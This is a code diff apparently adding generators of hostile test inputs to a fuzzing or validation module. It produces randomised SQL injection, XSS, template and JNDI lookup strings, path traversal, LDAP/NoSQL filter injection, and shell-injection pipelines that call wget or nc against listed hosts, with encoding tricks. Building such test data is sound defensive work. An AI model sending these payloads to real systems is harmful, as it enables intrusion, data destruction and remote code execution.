@@ -162,7 +162,114 @@ def _log(rng):
     )
 
 
-KINDS = {"sql": _sql, "script": _script, "shell": _shell, "path": _path, "format": _format, "log": _log}
+def _word(rng):
+    """An identifier that nobody has seen before."""
+    syllables = "ab ex in or ul ve ra mo ti ko na sel dat per quo zi lum fer".split()
+    return "".join(rng.choice(syllables) for _ in range(rng.randrange(1, 4)))
+
+
+def _condition(rng, depth=0):
+    n, name = rng.randrange(1, 200), _word(rng)
+    plain = ["%d=%d" % (n, n), "'%s'='%s'" % (name, name), "%d<%d" % (n, n + 1), "%s IS NOT NULL" % name,
+             "%s LIKE '%%%s%%'" % (name, name[:1]), "%d BETWEEN %d AND %d" % (n, n - 1, n + 1)]
+    if depth < 2 and rng.random() < 0.3:
+        return "(%s) %s %s" % (_condition(rng, depth + 1), rng.choice(["OR", "AND"]), _condition(rng, depth + 1))
+    return rng.choice(plain)
+
+
+def _query(rng):
+    """SQL from parts: columns, tables and conditions are drawn."""
+    columns = ",".join(rng.choice([_word(rng), "NULL", str(rng.randrange(99))]) for _ in range(rng.randrange(1, 6)))
+    select = "SELECT %s FROM %s WHERE %s" % (columns, _word(rng), _condition(rng))
+    text = rng.choice(
+        [
+            "OR %s" % _condition(rng),
+            "UNION %s%s" % (rng.choice(["", "ALL "]), select),
+            "AND (%s)>%d" % (select, rng.randrange(9)),
+            "; INSERT INTO %s VALUES (%d,'%s')" % (_word(rng), rng.randrange(99), _word(rng)),
+            "; DELETE FROM %s WHERE %s" % (_word(rng), _condition(rng)),
+            "ORDER BY %d" % rng.randrange(1, 60),
+            "AND IF(%s,SLEEP(%d),0)" % (_condition(rng), rng.randrange(1, 30)),
+        ]
+    )
+    if rng.random() < 0.5:
+        text = "".join(rng.choice([c.lower(), c.upper()]) for c in text) if rng.random() < 0.3 else text.lower()
+    blank = rng.choice([" ", " ", " ", "/**/", "+", "%20"])
+    start = rng.choice([_word(rng), styles.digits(rng, 3), ""]) + rng.choice(["'", '"', "')", " ", "';"])
+    return (start + " " + text + rng.choice(["", " --", "#", "-- " + _word(rng)])).replace(" ", blank)
+
+
+def _element(rng):
+    """An element with a handler, in markup of drawn names."""
+    tag, event = rng.choice(["img", "svg", "div", "video", _word(rng)]), rng.choice(["error", "load", "focus", _word(rng)])
+    code = rng.choice(["%s(%d)", "%s`%d`", "top.%s(%d)", "%s['%d']()"]) % (_word(rng), rng.randrange(99))
+    mark = rng.choice(['"', "'", ""])
+    return rng.choice(
+        [
+            "<%s on%s=%s%s%s>" % (tag, event, mark, code, mark),
+            "%s><%s src=x on%s=%s>" % (mark, tag, event, code),
+            "<a href=javascript:%s>%s</a>" % (code, _word(rng)),
+            "<script>%s</script>" % code,
+            "<a HrEf=\"JaVaScRiPt:%s\">X</a>" % code,
+        ]
+    )
+
+
+def _expression(rng):
+    """What template engines and loggers expand."""
+    n, name = rng.randrange(2, 99), _word(rng)
+    return rng.choice(
+        [
+            "{{%d*%d}}" % (n, n),
+            "${%s.%s}" % (name, _word(rng)),
+            "#{%s}" % name,
+            "<%%= %s %%>" % name,
+            "${jndi:%s://%s/%s}" % (rng.choice(["ldap", "rmi", "dns"]), rng.choice(HOSTS), name),
+            "${${%s:-j}ndi:ldap://%s/%s}" % (name, rng.choice(HOSTS), name),
+            "{%% %s %s %%}" % (name, _word(rng)),
+        ]
+    )
+
+
+def _pipeline(rng):
+    """Commands of drawn programs behind a separator."""
+    command = "%s -%s /%s/%s" % (_word(rng), styles.alnum(rng, 1), _word(rng), _word(rng))
+    if rng.random() < 0.5:
+        command = "%s %s%s" % (rng.choice(["cat", "wget", "nc", "echo", "sh -c"]), rng.choice(["/", "http://", ""]), rng.choice(HOSTS))
+    text = rng.choice(["; %s", "|%s", "&& %s", "`%s`", "$(%s)", "|| %s #", "%%3B%s%%3B"]) % command
+    return rng.choice(["", _word(rng)]) + (text.replace(" ", "%20") if rng.random() < 0.25 else text)
+
+
+def _climb(rng):
+    """A path upwards to drawn names."""
+    step = rng.choice(["../", "..%c0%af", "%2e%2e/", "..%5c", "....//", "..%252f"])
+    head = rng.choice(["", "file:///", "/", _word(rng) + "/", "php://filter/resource="])
+    return head + step * rng.randrange(1, 12) + rng.choice(["etc/", "var/", ""]) + _word(rng) + rng.choice(["", "/" + _word(rng), ".conf", "%00"])
+
+
+def _filter(rng):
+    """Filters of directories and of document databases."""
+    name = _word(rng)
+    return rng.choice(
+        ["*)(%s=*" % name, "%s)(|(%s=*))" % (name, _word(rng)), '{"$%s":%d}' % (rng.choice(["ne", "gt"]), rng.randrange(9)),
+         "' or //%s[%d] or '" % (name, rng.randrange(1, 9)), "[$ne]=%s" % name]
+    )
+
+
+def _either(*makers):
+    """One of several generators, drawn anew for each text."""
+    return lambda rng: rng.choice(makers)(rng)
+
+
+KINDS = {
+    "sql": _either(_sql, _query),
+    "script": _either(_script, _element),
+    "shell": _either(_shell, _pipeline),
+    "path": _either(_path, _climb),
+    "format": _format,
+    "log": _log,
+    "expression": _either(_expression, _filter),
+}
 
 
 def hostile(rng, kinds=None):
